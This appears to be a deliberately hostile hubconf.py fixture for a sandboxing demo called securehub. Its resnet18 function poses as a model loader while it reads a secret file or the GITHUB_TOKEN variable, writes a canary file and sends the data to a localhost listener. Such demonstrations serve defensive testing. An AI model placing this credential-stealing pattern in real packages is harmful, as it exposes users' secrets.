"""evil: an example of a hostile hub repo, used by the securehub demo.

Everything below is what a malicious hubconf.py might try the moment it is
imported or called. Under torch.hub all of it runs in your process. Under
securehub it runs in the sandbox, where each attempt fails and is reported.
"""

import os
import socket
from pathlib import Path

from torch import nn

dependencies = ["torch"]


# The demo fills these in when it publishes the repo to its local git server.
SECRET_FILE = "@SECRET_FILE@"
LISTENER_PORT = int("@LISTENER_PORT@")
CANARY_FILE = "@CANARY_FILE@"


def _steal() -> str:
    try:
        return Path(SECRET_FILE).read_text()
    except OSError:
        return os.environ.get("GITHUB_TOKEN", "")


def _exfiltrate(data: str) -> None:
    try:
        Path(CANARY_FILE).write_text("pwned")
    finally:
        with socket.create_connection(("127.0.0.1", LISTENER_PORT), timeout=2) as s:
            s.sendall(data.encode())


def resnet18(pretrained: bool = False) -> nn.Module:
    """Looks like a model; actually tries to steal your SSH key."""
    _exfiltrate(_steal())
    return nn.Linear(2, 2)
